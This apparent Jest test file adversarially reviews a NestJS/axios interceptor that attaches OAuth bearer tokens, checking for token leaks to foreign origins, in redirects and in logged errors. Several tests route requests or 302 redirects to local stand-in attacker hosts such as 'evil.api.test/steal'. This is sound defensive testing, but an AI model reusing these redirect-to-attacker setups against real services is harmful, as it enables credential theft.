// Adversarial review of attachOutboundToken() (round 15b; was attack15b-axios).
import { afterEach, describe, expect, it } from '@jest/globals';
import { inspect } from 'node:util';
import { Readable } from 'node:stream';
import { HttpModule, HttpService } from '@nestjs/axios';
import type { INestApplication } from '@nestjs/common';
import { MeterProvider } from '@opentelemetry/sdk-metrics';
import axios, { AxiosError } from 'axios';
import { firstValueFrom } from 'rxjs';
import { attachOutboundToken, IntrospectionConfigurationError, OutboundTokenService, type OutboundTokenRefusedEvent } from '../../../lib/index.js';
import { ADAPTERS, startApp } from '../../support/app.js';
import { CLIENTS, TestAuthorizationServer, introspectionAt } from '../../support/authorization-server.js';
import { FaultyServer } from '../../support/faulty-server.js';
import { CollectingReader, points } from '../../support/metrics.js';

/**
 * Review 15b: attacks on attachOutboundToken() with real parts — a real oidc-provider, a real backend app
 * using this library (introspects every request, no cache), an edge app over Express and Fastify whose
 * real @nestjs/axios HttpService (HttpModule.register) carries the interceptor, real misbehaving servers.
 * Tests marked FINDING fail on the reviewed code (4cd5d32); tests marked DEFENCE pass and prove a defence holds.
 */
const origin = (url: string) => new URL(url).origin;

describe.each(ADAPTERS)('attachOutboundToken() on real axios instances over %s', (adapter) => {
  let as: TestAuthorizationServer | undefined;
  const apps: INestApplication[] = [];
  const servers: FaultyServer[] = [];
  afterEach(async () => {
    for (const app of apps.splice(0)) await app.close();
    await as?.stop();
    as = undefined;
    for (const s of servers.splice(0)) await s.stop();
  });
  const server = async (b: Parameters<typeof FaultyServer.start>[0]) => {
    const s = await FaultyServer.start(b);
    servers.push(s);
    return s;
  };
  /** A host that must never see our token: records the Authorization headers it receives. */
  const evilHost = async () => {
    const seen: string[] = [];
    const s = await server((req, res) => {
      seen.push(String(req.headers.authorization ?? ''));
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}');
    });
    return { url: origin(s.url), seen };
  };

  async function setup(http: { baseURL?: string; lookup?: unknown } | 'backend' = 'backend', extra: Record<string, unknown> = {}) {
    as = await TestAuthorizationServer.start();
    const backend = await startApp(adapter, {
      ...introspectionAt(as),
      cache: false,
    });
    apps.push(backend.app);
    const reader = new CollectingReader();
    const refusals: OutboundTokenRefusedEvent[] = [];
    const edge = await startApp(
      adapter,
      {
        ...introspectionAt(as),
        metrics: { meterProvider: new MeterProvider({ readers: [reader] }) },
        events: { onOutboundTokenRefused: (e) => refusals.push(e) },
        outbound: {
          orders: { tokenEndpoint: as.tokenEndpoint, clientId: CLIENTS.app.clientId, clientSecret: CLIENTS.app.clientSecret, scope: 'read write', ...extra },
        },
      },
      [],
      [HttpModule.register({ timeout: 5_000, ...(http === 'backend' ? { baseURL: backend.url } : http) } as never)],
    );
    apps.push(edge.app);
    const httpService = edge.app.get(HttpService);
    const outbound = edge.app.get(OutboundTokenService);
    return { as, backendUrl: backend.url, http: httpService, axios: httpService.axiosRef, outbound, reader, refusals };
  }
  const status = async (p: Promise<{ status: number }>) => {
    try {
      return (await p).status;
    } catch (e) {
      return (e as AxiosError).response?.status ?? 0;
    }
  };

  // ---------------------------------------------------------------------------------------------------------
  // FINDINGS (fail on 4cd5d32)
  // ---------------------------------------------------------------------------------------------------------

  it("an absolute URL to another origin on the backend's HttpService (baseURL = backend) does not carry the token", async () => {
    const { http, outbound } = await setup();
    attachOutboundToken(http, outbound, 'orders');
    const evil = await evilHost();
    // Any provider of the module that injects the same HttpService (a webhook sender, a URL from a request, a
    // third-party API) sends our backend token to whatever absolute URL it requests: axios lets it override baseURL.
    await firstValueFrom(http.get(`${evil.url}/webhook`));
    expect(evil.seen).toEqual(['']);
  });

  it('an HttpService without baseURL (HttpModule.register({})) never hands the token to a host nobody named', async () => {
    const { http, outbound } = await setup({});
    const evil = await evilHost();
    let attached = true;
    try {
      attachOutboundToken(http, outbound, 'orders');
    } catch (e) {
      attached = !(e instanceof IntrospectionConfigurationError);
    }
    if (attached) await firstValueFrom(http.get(`${evil.url}/anything`));
    // Either refused like axios' global instance, or the token not sent to a host nobody named.
    expect(evil.seen.filter((a) => a.startsWith('Bearer '))).toEqual([]);
  });

  it('the AxiosError user code catches (and logs) does not hold the raw token', async () => {
    const { http, outbound, backendUrl } = await setup();
    attachOutboundToken(http, outbound, 'orders');
    const token = await outbound.getToken('orders');
    const error = await firstValueFrom(http.get(`${backendUrl}/no-such-route`)).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(AxiosError);
    expect((error as AxiosError).response?.status).toBe(404); // a real backend answer, the token was accepted or not needed
    // What a logger serialises: pino/winston use toJSON(); console.log and Nest's ConsoleLogger use inspect().
    expect(JSON.stringify((error as AxiosError).toJSON())).not.toContain(token);
    expect(inspect(error, { depth: 6 })).not.toContain(token);
  });

  it('a redirect to a subdomain of the backend (another host name, same port) does not carry the token there', async () => {
    const seen: Array<{ host: string; auth: string }> = [];
    // One real server answering two host names, as a backend and a sibling host under it would.
    const both = await server((req, res) => {
      const host = String(req.headers.host);
      seen.push({ host, auth: String(req.headers.authorization ?? '') });
      if (host.startsWith('api.test')) res.writeHead(302, { location: `http://evil.api.test:${new URL(both.url).port}/steal` }).end();
      else res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
    const port = new URL(both.url).port;
    const lookup = (_host: string, options: unknown, cb: (...args: unknown[]) => void) =>
      typeof options === 'object' && (options as { all?: boolean }).all ? cb(null, [{ address: '127.0.0.1', family: 4 }]) : cb(null, '127.0.0.1', 4);
    const { http, outbound } = await setup({ baseURL: `http://api.test:${port}`, lookup });
    attachOutboundToken(http, outbound, 'orders');
    await firstValueFrom(http.get('/orders'));
    expect(seen.map((s) => s.host)).toEqual([`api.test:${port}`, `evil.api.test:${port}`]);
    expect(seen[0].auth).toMatch(/^Bearer /);
    expect(seen[1].auth).toBe(''); // follow-redirects 1.16 drops it
  });

  it('a 401 the caller can provoke just before an IdP restart costs at most one failed call after the restart', async () => {
    // Same backend name for a path that answers 401 whatever the token (e.g. the backend refusing the end
    // user's forwarded credentials): the renewal budget (1 per backend per 5 s) is spent by that refusal.
    const deny = await server((_req, res) => void res.writeHead(401, { 'www-authenticate': 'Bearer' }).end());
    const { as, http, outbound } = await setup();
    attachOutboundToken(http, outbound, 'orders');
    expect(await status(firstValueFrom(http.get('/orders')))).toBe(200);
    expect(await status(firstValueFrom(http.get(`${origin(deny.url)}/user-scoped`)))).toBe(401); // renews, repeat refused
    await as.restart(); // in-memory store: the renewed token is forgotten
    const results: number[] = [];
    for (let i = 0; i < 5; i++) results.push(await status(firstValueFrom(http.get('/orders'))));
    expect(results.filter((s) => s !== 200).length).toBeLessThanOrEqual(1); // observed: [401, 401, 401, 401, 401]
  });

  it('attachOutboundToken() twice on one HttpService counts one refused POST once', async () => {
    const { as, http, outbound, reader, refusals } = await setup();
    attachOutboundToken(http, outbound, 'orders');
    attachOutboundToken(http, outbound, 'orders'); // e.g. two providers of the module each attach in onModuleInit
    expect(await status(firstValueFrom(http.post('/orders', { a: 1 })))).toBe(201);
    await as.restart();
    expect(await status(firstValueFrom(http.post('/orders', { a: 1 })))).toBe(401);
    const refusalPoints = await points(reader, 'token_introspection.outbound.refusals');
    // One backend answer: one event and one count (or attaching twice refused at once).
    expect(refusals).toHaveLength(1); // observed: renewed + already_renewed
    expect(refusalPoints.reduce((t, p) => t + p.value, 0)).toBe(1);
  });

  it('a closed app’s interceptor left on a shared axios instance does not turn an IdP restart into a failure window (at most one failed call)', async () => {
    // An axios instance made outside DI (a module-level `axios.create()`), attached in onModuleInit as the
    // README shows; apps are created and closed (e2e suites, hot reload). Nothing ejects on shutdown.
    const { as, backendUrl } = await setup();
    const shared = axios.create({ baseURL: backendUrl, timeout: 5_000 });
    const edgeApp = async () => {
      const events: OutboundTokenRefusedEvent[] = [];
      const edge = await startApp(
        adapter,
        {
          ...introspectionAt(as),
          events: { onOutboundTokenRefused: (e) => events.push(e) },
          outbound: { orders: { tokenEndpoint: as.tokenEndpoint, clientId: CLIENTS.app.clientId, clientSecret: CLIENTS.app.clientSecret, scope: 'read' } },
        },
        [],
      );
      attachOutboundToken(shared, edge.app.get(OutboundTokenService), 'orders');
      return { app: edge.app, events };
    };
    const first = await edgeApp();
    expect((await shared.get('/orders')).status).toBe(200);
    await first.app.close();
    const second = await edgeApp();
    apps.push(second.app);
    expect((await shared.get('/orders')).status).toBe(200); // the second app's token
    await as.restart();
    as.resetCounters();
    const results: number[] = [];
    for (let i = 0; i < 5; i++) results.push(await status(shared.get('/orders')));
    // The closed app's interceptor (first in axios' response chain) takes the refusal: the live app's token is
    // never dropped and the repeat goes out with the closed app's cached token, refused too. Observed: every
    // call fails, [401, 401, 401, 401, 401], for the token's whole lifetime — the seed's failure window.
    expect(results.filter((s) => s !== 200).length).toBeLessThanOrEqual(1);
  });

  // ---------------------------------------------------------------------------------------------------------
  // DEFENCES (pass on 4cd5d32)
  // ---------------------------------------------------------------------------------------------------------

  it('a redirect to another origin (same IP, other port) does not carry the token', async () => {
    const evil = await evilHost();
    const redirector = await server((_req, res) => void res.writeHead(302, { location: `${evil.url}/steal` }).end());
    const { http, outbound } = await setup({ baseURL: origin(redirector.url) });
    attachOutboundToken(http, outbound, 'orders');
    await firstValueFrom(http.get('/orders'));
    expect(evil.seen).toEqual(['']);
  });

  it('a backend that always answers 401: two backend calls per request, no loop, one token renewal per 5 s', async () => {
    const always = await server((_req, res) => void res.writeHead(401, { 'www-authenticate': 'Bearer error="invalid_token"' }).end());
    const { as, http, outbound, refusals } = await setup({ baseURL: origin(always.url) });
    attachOutboundToken(http, outbound, 'orders');
    as.resetCounters();
    for (let i = 0; i < 10; i++) expect(await status(firstValueFrom(http.get('/x')))).toBe(401);
    expect(always.requests).toBe(11); // the first call repeated once after its renewal; then refusals stand
    expect(as.tokenRequests).toBe(2); // the first token and one renewal
    expect(refusals.filter((r) => r.renewal === 'rate_limited')).toHaveLength(9);
  });

  it('a 403 without invalid_token (and a 403 invalid_token without retryOn403InvalidToken) is not a refusal', async () => {
    const forbidden = await server((req, res) => {
      res.writeHead(403, { 'www-authenticate': req.url === '/scope' ? 'Bearer error="insufficient_scope"' : 'Bearer error="invalid_token"' }).end();
    });
    const { as, http, outbound, refusals } = await setup({ baseURL: origin(forbidden.url) });
    attachOutboundToken(http, outbound, 'orders');
    as.resetCounters();
    expect(await status(firstValueFrom(http.get('/scope')))).toBe(403);
    expect(await status(firstValueFrom(http.get('/invalid')))).toBe(403);
    expect(forbidden.requests).toBe(2);
    expect(as.tokenRequests).toBe(1);
    expect(refusals).toEqual([]);
  });

  it('with retryNonIdempotent a refused POST with a stream body is not replayed (the stream is consumed)', async () => {
    const seen: string[] = [];
    const backend = await server((req, res) => {
      seen.push(String(req.headers.authorization));
      res.writeHead(seen.length === 1 ? 401 : 201).end();
    });
    const { http, outbound, refusals } = await setup({ baseURL: origin(backend.url) }, { retryNonIdempotent: true });
    attachOutboundToken(http, outbound, 'orders');
    const body = Readable.from([Buffer.from('chunk-1'), Buffer.from('chunk-2')]);
    expect(await status(firstValueFrom(http.post('/upload', body, { headers: { 'content-type': 'application/octet-stream' } })))).toBe(401);
    expect(seen).toHaveLength(1);
    expect(backend.bodies).toEqual(['chunk-1chunk-2']);
    expect(refusals).toEqual([expect.objectContaining({ renewal: 'renewed', repeated: false })]);
  });

  it('a selector answering a name not configured fails the request with a configuration error and creates no metric series', async () => {
    const evil = await evilHost();
    const { http, outbound, reader } = await setup();
    attachOutboundToken(http, outbound, (config) => `backend-for-${config.url}`);
    const error = await firstValueFrom(http.get(`${evil.url}/a`)).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(IntrospectionConfigurationError);
    expect(evil.seen).toEqual([]); // not sent at all
    const series = [
      ...(await points(reader, 'token_introspection.outbound.token_requests')),
      ...(await points(reader, 'token_introspection.outbound.token_unavailable')),
    ];
    expect(series.filter((p) => String(p.attributes.backend).startsWith('backend-for-'))).toEqual([]);
  });
});
